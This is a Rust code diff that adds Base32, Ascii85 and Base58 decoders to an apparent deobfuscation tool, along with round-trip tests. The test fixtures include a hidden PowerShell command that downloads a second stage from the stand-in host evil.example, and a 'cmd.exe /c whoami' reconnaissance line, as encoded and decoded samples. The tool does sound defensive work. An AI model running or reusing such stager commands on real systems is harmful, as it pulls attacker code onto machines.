@@ -349,4 +349,315 @@ impl DeobfuscationTechnique for HtmlEntityDecoder {
     fn matches_type(&self, technique_type: &ObfuscationTechnique) -> bool {
         matches!(technique_type, ObfuscationTechnique::HtmlEntityEncoding)
     }
-}
\ No newline at end of file
+}
+
+/// Decoded text with fewer printable characters than this is taken for a
+/// chance match of the alphabet rather than an encoded layer
+const MIN_READABLE_RATIO: f32 = 0.8;
+
+/// Longest Base58 token decoded; the conversion is quadratic in its length
+const MAX_BASE58_LEN: usize = 1024;
+
+const BASE58_ALPHABET: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
+
+/// A token of `content` and its decoded text, with a confidence combining
+/// how well the token fits the encoding and how readable the result is
+struct DecodedToken {
+    token: String,
+    text: String,
+    confidence: f32,
+}
+
+/// Decode every match of `pattern` with `decode`, which returns the
+/// token's conformance to the encoding and the decoded bytes. Tokens that
+/// don't decode to readable text are dropped.
+fn decode_tokens(
+    content: &str,
+    pattern: &Regex,
+    decode: impl Fn(&str) -> Option<(f32, Vec<u8>)>,
+) -> Vec<DecodedToken> {
+    pattern
+        .find_iter(content)
+        .filter_map(|m| {
+            let (conformance, bytes) = decode(m.as_str())?;
+            let text = String::from_utf8(bytes).ok().filter(|t| !t.is_empty())?;
+            let total = text.chars().count() as f32;
+            let readable = text.chars().filter(|c| !c.is_control() || c.is_ascii_whitespace()).count() as f32 / total;
+            (readable >= MIN_READABLE_RATIO).then(|| DecodedToken {
+                token: m.as_str().to_string(),
+                text,
+                confidence: conformance * readable,
+            })
+        })
+        .collect()
+}
+
+fn best_confidence(decoded: &[DecodedToken]) -> Option<f32> {
+    decoded.iter().map(|d| d.confidence).reduce(f32::max)
+}
+
+fn replace_tokens(content: &str, decoded: &[DecodedToken], encoding: &str) -> TechniqueResult {
+    let mut result = content.to_string();
+    for d in decoded {
+        result = result.replace(&d.token, &d.text);
+    }
+    TechniqueResult {
+        success: !decoded.is_empty(),
+        output: result,
+        context: Some(format!("Decoded {} {} strings", decoded.len(), encoding)),
+    }
+}
+
+/// RFC 4648 Base32, common in DNS tunneling where labels are
+/// case-insensitive
+pub struct Base32Decoder {
+    pattern: Regex,
+}
+
+impl Base32Decoder {
+    pub fn new() -> Self {
+        Self {
+            pattern: Regex::new(r"\b(?:[A-Z2-7]{16,}|[a-z2-7]{16,})={0,6}").unwrap(),
+        }
+    }
+
+    fn decode(&self, content: &str) -> Vec<DecodedToken> {
+        decode_tokens(content, &self.pattern, |token| {
+            let data = token.trim_end_matches('=');
+            let padded = data.len() != token.len();
+            if padded && token.len() % 8 != 0 {
+                return None;
+            }
+            let bytes = decode_base32(data)?;
+            // Unpadded tokens and tokens never using the digits fit the
+            // alphabet less convincingly
+            let mut conformance = if padded || data.len() % 8 == 0 { 1.0 } else { 0.9 };
+            if !data.bytes().any(|b| (b'2'..=b'7').contains(&b)) {
+                conformance *= 0.8;
+            }
+            Some((conformance, bytes))
+        })
+    }
+}
+
+fn decode_base32(data: &str) -> Option<Vec<u8>> {
+    // Lengths that leave a partial quantum no byte boundary ends on
+    if matches!(data.len() % 8, 1 | 3 | 6) {
+        return None;
+    }
+    let mut bytes = Vec::with_capacity(data.len() * 5 / 8);
+    let (mut buffer, mut bits) = (0u32, 0u32);
+    for c in data.bytes() {
+        let value = match c.to_ascii_uppercase() {
+            c @ b'A'..=b'Z' => c - b'A',
+            c @ b'2'..=b'7' => c - b'2' + 26,
+            _ => return None,
+        };
+        buffer = (buffer << 5) | value as u32;
+        bits += 5;
+        if bits >= 8 {
+            bits -= 8;
+            bytes.push((buffer >> bits) as u8);
+            buffer &= (1 << bits) - 1;
+        }
+    }
+    Some(bytes)
+}
+
+impl DeobfuscationTechnique for Base32Decoder {
+    fn name(&self) -> &'static str {
+        "Base32 Decoder"
+    }
+
+    fn can_deobfuscate(&self, content: &str) -> Option<f32> {
+        best_confidence(&self.decode(content))
+    }
+
+    fn deobfuscate(&self, content: &str) -> Result<TechniqueResult, String> {
+        Ok(replace_tokens(content, &self.decode(content), "base32"))
+    }
+
+    fn matches_type(&self, technique_type: &ObfuscationTechnique) -> bool {
+        matches!(technique_type, ObfuscationTechnique::Base32Encoding)
+    }
+}
+
+/// Ascii85 in its Adobe `<~ ... ~>` framing. Bare Ascii85 uses nearly every
+/// printable character, so without the delimiters any text would match.
+pub struct Ascii85Decoder {
+    pattern: Regex,
+}
+
+impl Ascii85Decoder {
+    pub fn new() -> Self {
+        Self {
+            pattern: Regex::new(r"<~[!-uz\s]+~>").unwrap(),
+        }
+    }
+
+    fn decode(&self, content: &str) -> Vec<DecodedToken> {
+        decode_tokens(content, &self.pattern, |token| {
+            decode_ascii85(&token[2..token.len() - 2]).map(|bytes| (1.0, bytes))
+        })
+    }
+}
+
+fn decode_ascii85(data: &str) -> Option<Vec<u8>> {
+    let mut bytes = Vec::with_capacity(data.len() * 4 / 5);
+    let mut group = [0u8; 5];
+    let mut len = 0;
+    for c in data.bytes().filter(|c| !c.is_ascii_whitespace()) {
+        if c == b'z' {
+            // Shorthand for four zero bytes, only between groups
+            if len != 0 {
+                return None;
+            }
+            bytes.extend_from_slice(&[0; 4]);
+            continue;
+        }
+        group[len] = c - b'!';
+        len += 1;
+        if len == 5 {
+            bytes.extend_from_slice(&ascii85_group(&group)?);
+            len = 0;
+        }
+    }
+    match len {
+        0 => {}
+        1 => return None,
+        _ => {
+            // A partial group is padded with the highest digit and
+            // yields one byte fewer than it has characters
+            group[len..].fill(84);
+            bytes.extend_from_slice(&ascii85_group(&group)?[..len - 1]);
+        }
+    }
+    Some(bytes)
+}
+
+fn ascii85_group(group: &[u8; 5]) -> Option<[u8; 4]> {
+    let value = group.iter().try_fold(0u32, |acc, &digit| acc.checked_mul(85)?.checked_add(digit as u32))?;
+    Some(value.to_be_bytes())
+}
+
+impl DeobfuscationTechnique for Ascii85Decoder {
+    fn name(&self) -> &'static str {
+        "Ascii85 Decoder"
+    }
+
+    fn can_deobfuscate(&self, content: &str) -> Option<f32> {
+        best_confidence(&self.decode(content))
+    }
+
+    fn deobfuscate(&self, content: &str) -> Result<TechniqueResult, String> {
+        Ok(replace_tokens(content, &self.decode(content), "ascii85"))
+    }
+
+    fn matches_type(&self, technique_type: &ObfuscationTechnique) -> bool {
+        matches!(technique_type, ObfuscationTechnique::Base85Encoding)
+    }
+}
+
+/// Bitcoin-alphabet Base58, which leaves out `0`, `O`, `I` and `l`
+pub struct Base58Decoder {
+    pattern: Regex,
+}
+
+impl Base58Decoder {
+    pub fn new() -> Self {
+        Self {
+            pattern: Regex::new(r"\b[1-9A-HJ-NP-Za-km-z]{16,}\b").unwrap(),
+        }
+    }
+
+    fn decode(&self, content: &str) -> Vec<DecodedToken> {
+        // The alphabet is shared with Base64 and plain words, so even a
+        // readable decode is less certain than for the other encodings
+        decode_tokens(content, &self.pattern, |token| {
+            decode_base58(token).map(|bytes| (0.8, bytes))
+        })
+    }
+}
+
+fn decode_base58(data: &str) -> Option<Vec<u8>> {
+    if data.len() > MAX_BASE58_LEN {
+        return None;
+    }
+    // Little-endian base-256 digits of the number
+    let mut number: Vec<u8> = Vec::with_capacity(data.len());
+    for c in data.bytes() {
+        let mut carry = BASE58_ALPHABET.iter().position(|&a| a == c)? as u32;
+        for digit in number.iter_mut() {
+            carry += *digit as u32 * 58;
+            *digit = carry as u8;
+            carry >>= 8;
+        }
+        while carry > 0 {
+            number.push(carry as u8);
+            carry >>= 8;
+        }
+    }
+    // Each leading '1' stands for a leading zero byte
+    let zeros = data.bytes().take_while(|&c| c == b'1').count();
+    let mut bytes = vec![0; zeros];
+    bytes.extend(number.iter().rev());
+    Some(bytes)
+}
+
+impl DeobfuscationTechnique for Base58Decoder {
+    fn name(&self) -> &'static str {
+        "Base58 Decoder"
+    }
+
+    fn can_deobfuscate(&self, content: &str) -> Option<f32> {
+        best_confidence(&self.decode(content))
+    }
+
+    fn deobfuscate(&self, content: &str) -> Result<TechniqueResult, String> {
+        Ok(replace_tokens(content, &self.decode(content), "base58"))
+    }
+
+    fn matches_type(&self, technique_type: &ObfuscationTechnique) -> bool {
+        matches!(technique_type, ObfuscationTechnique::Base58Encoding)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PLAINTEXT: &str = "powershell -w hidden -c iwr http://evil.example/stage2";
+
+    #[test]
+    fn test_base32_round_trip() {
+        let encoded = "OBXXOZLSONUGK3DMEAWXOIDINFSGIZLOEAWWGIDJO5ZCA2DUORYDULZPMV3GS3BOMV4GC3LQNRSS643UMFTWKMQ=";
+        let decoder = Base32Decoder::new();
+
+        assert_eq!(decoder.can_deobfuscate(encoded), Some(1.0));
+        assert_eq!(decoder.deobfuscate(encoded).unwrap().output, PLAINTEXT);
+        // DNS tunnels send it lowercase
+        let lowercase = encoded.to_ascii_lowercase();
+        assert_eq!(decoder.deobfuscate(&lowercase).unwrap().output, PLAINTEXT);
+    }
+
+    #[test]
+    fn test_ascii85_round_trip() {
+        let encoded = r"<~E,Tr3EcYo*Cht4GG9CR5A7T7h+>%(GBm4S?BQS?83\N-tG%kbFAU%X#E,9)=F*(i'AMO~>";
+        let decoder = Ascii85Decoder::new();
+
+        assert_eq!(decoder.can_deobfuscate(encoded), Some(1.0));
+        let result = decoder.deobfuscate(&format!("var s = \"{}\";", encoded)).unwrap();
+        assert_eq!(result.output, format!("var s = \"{}\";", PLAINTEXT));
+        assert_eq!(decode_ascii85("zBP@").unwrap(), b"\0\0\0\0hi");
+    }
+
+    #[test]
+    fn test_base58_decoded_and_binary_rejected() {
+        let decoder = Base58Decoder::new();
+        assert_eq!(decode_base58("StV1DL6CwTryKyV").unwrap(), b"hello world");
+        assert_eq!(decoder.deobfuscate("wC6Qn9yXHXwFnzbxZcHBUS4").unwrap().output, "cmd.exe /c whoami");
+
+        // In the alphabet, but decodes to binary
+        assert_eq!(decoder.can_deobfuscate("ZkVbUBbZVgsKdbQSSGFFcjPpXx"), None);
+    }
+}